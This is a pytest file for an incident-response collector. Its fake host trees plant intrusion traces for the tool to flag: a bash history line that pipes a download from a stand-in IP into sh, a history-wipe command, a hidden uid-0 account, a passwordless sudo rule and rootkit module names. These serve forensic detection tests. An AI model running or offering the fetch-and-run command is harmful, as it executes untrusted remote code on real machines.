"""accounts, modules and gpu collectors: fixture trees with expected records and corrupt variants;
the GPU collector for real (its no-driver path here, its NVML path where a GPU is present)."""

import importlib.util
import zipfile
from pathlib import Path

import pytest
from collecting import collect_bundle, log_entries, records
from hostfixtures import utmp_record, write_tree

from irkit.parsers.kmodules import decode_taint

PASSWD = (
    "root:x:0:0:root:/root:/bin/bash\n"
    "alice:x:1000:1000:Alice:/home/alice:/bin/bash\n"
    "toor:x:0:0::/home/toor:/bin/sh\n"
    "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
    "broken line\n"
)
ACCOUNTS_ROOT: dict[str, bytes | str] = {
    "/etc/passwd": PASSWD,
    "/etc/shadow": "root:$6$secret-hash$abc:19000:0:99999:7:::\n",
    "/etc/group": "root:x:0:\nsudo:x:27:alice,toor\nbad\n",
    "/etc/sudoers": (
        "Defaults env_reset\n# comment\nroot ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n"
    ),
    "/etc/sudoers.d/90-alice": "alice ALL=(ALL) \\\n  NOPASSWD: ALL\n",
    "/var/log/wtmp": utmp_record(
        7,
        pid=4242,
        line=b"pts/0",
        user=b"alice",
        host=b"198.51.100.7",
        time=1_700_000_000,
        address=bytes([198, 51, 100, 7]) + bytes(12),
    )
    + b"\x01\x02 truncated",
    "/var/log/btmp": utmp_record(
        6, pid=1, line=b"ssh:notty", user=b"admin", host=b"203.0.113.5", time=1_700_000_100
    ),
    "/home/alice/.bash_history": "curl http://203.0.113.9/x | sh\n",
    "/root/.zsh_history": b": 1700000000:0;history -c\xff\n",
}


def test_accounts_from_a_fixture_root(tmp_path: Path) -> None:
    root = write_tree(tmp_path / "root", ACCOUNTS_ROOT)
    bundle = collect_bundle(tmp_path / "b.zip", "accounts", root=root)
    accounts = {r["name"]: r for r in records(bundle, "account")}
    assert sorted(accounts) == ["alice", "daemon", "root", "toor"]
    assert accounts["toor"]["flags"] == ["uid-0-not-root", "login-shell"]
    assert accounts["daemon"]["flags"] == []
    groups = {r["name"]: r["members"] for r in records(bundle, "group")}
    assert groups == {"root": [], "sudo": ["alice", "toor"]}
    rules = [(r["source"], r["line"], r["rule"], r["flags"]) for r in records(bundle, "sudo_rule")]
    assert rules == [
        ("/etc/sudoers", 1, "Defaults env_reset", []),
        ("/etc/sudoers", 3, "root ALL=(ALL:ALL) ALL", []),
        ("/etc/sudoers", 4, "@includedir /etc/sudoers.d", []),
        ("/etc/sudoers.d/90-alice", 1, "alice ALL=(ALL) NOPASSWD: ALL", ["nopasswd"]),
    ]
    logins = [(r["source"], r["user"], r["address"], r["failed"]) for r in records(bundle, "login")]
    assert logins == [
        ("/var/log/wtmp", "alice", "198.51.100.7", False),
        ("/var/log/btmp", "admin", None, True),
    ]
    with zipfile.ZipFile(bundle) as zf:
        names = zf.namelist()
        assert zf.read("files/root/.zsh_history") == ACCOUNTS_ROOT["/root/.zsh_history"]
    assert "files/home/alice/.bash_history" in names
    assert not any("shadow" in name for name in names), "shadow hashes are never collected"
    problems = {
        (e["detail"].get("path"), e["detail"].get("line") or e["detail"].get("offset"))
        for e in log_entries(bundle)
        if e["step"] == "parse"
    }
    assert ("/etc/passwd", 5) in problems
    assert ("/etc/group", 3) in problems
    assert ("/var/log/wtmp", 384) in problems


MODULES = (
    "diamorphine 16384 0 - Live 0xffffffffc0a00000 (OE)\n"
    "ext4 987136 2 - Live 0xffffffffc0400000\n"
    "nf_nat 57344 2 nft_chain_nat,xt_MASQUERADE, Live 0xffffffffc0300000\n"
    "garbage\n"
)


def test_modules_and_taint_from_a_fixture_proc(tmp_path: Path) -> None:
    proc = write_tree(tmp_path / "proc", {"modules": MODULES, "sys/kernel/tainted": "12288\n"})
    root = write_tree(
        tmp_path / "root",
        {
            "/sys/module/ext4/initstate": "live\n",
            "/sys/module/reptile/initstate": "live\n",
            "/sys/module/vt/parameters/x": "1\n",
        },
    )
    bundle = collect_bundle(tmp_path / "b.zip", "modules", root=root, proc=proc)
    found = {r["name"]: r for r in records(bundle, "kernel_module")}
    assert sorted(found) == ["diamorphine", "ext4", "nf_nat", "reptile"]
    assert found["diamorphine"]["flags"] == ["out-of-tree", "unsigned"]
    assert found["nf_nat"]["used_by"] == ["nft_chain_nat", "xt_MASQUERADE"]
    assert found["reptile"]["flags"] == ["not-in-proc-modules"]
    (taint,) = records(bundle, "kernel_taint")
    assert taint["value"] == 12288
    assert taint["flags"] == ["O: out-of-tree module loaded", "E: unsigned module loaded"]
    assert [e["detail"]["line"] for e in log_entries(bundle) if e["step"] == "parse"] == [4]
    assert decode_taint(1 << 30) == ["bit30: unknown taint bit"]


def _nvml_works() -> bool:
    if importlib.util.find_spec("pynvml") is None:
        return False
    import pynvml

    try:
        pynvml.nvmlInit()
    except pynvml.NVMLError:
        return False
    pynvml.nvmlShutdown()
    return True


NVML = _nvml_works()


@pytest.mark.skipif(NVML, reason="an NVIDIA driver is present: the no-driver path cannot run")
def test_gpu_without_a_driver_is_one_skipped_log_line(tmp_path: Path) -> None:
    bundle = collect_bundle(tmp_path / "b.zip", "gpu")
    gpu_log = [e for e in log_entries(bundle) if e["collector"] == "gpu"]
    nvml = [e for e in gpu_log if e["step"] == "nvml"]
    assert len(nvml) == 1 and nvml[0]["outcome"] == "skipped"
    assert "no NVIDIA driver" in nvml[0]["error"] or "not installed" in nvml[0]["error"]
    assert not any(e["outcome"] == "error" for e in gpu_log)
    assert records(bundle, "gpu") == []


@pytest.mark.skipif(not NVML, reason="no NVIDIA GPU/driver on this machine")
def test_gpu_records_through_nvml(tmp_path: Path) -> None:
    bundle = collect_bundle(tmp_path / "b.zip", "gpu")
    gpus = records(bundle, "gpu")
    assert gpus and all(g["memory_total"] and g["uuid"] for g in gpus)


def test_gpu_is_skipped_for_a_fixture_procfs(tmp_path: Path) -> None:
    bundle = collect_bundle(tmp_path / "b.zip", "gpu", proc=tmp_path)
    (entry,) = [e for e in log_entries(bundle) if e["step"] == "nvml"]
    assert entry["outcome"] == "skipped" and "not a live host" in entry["error"]
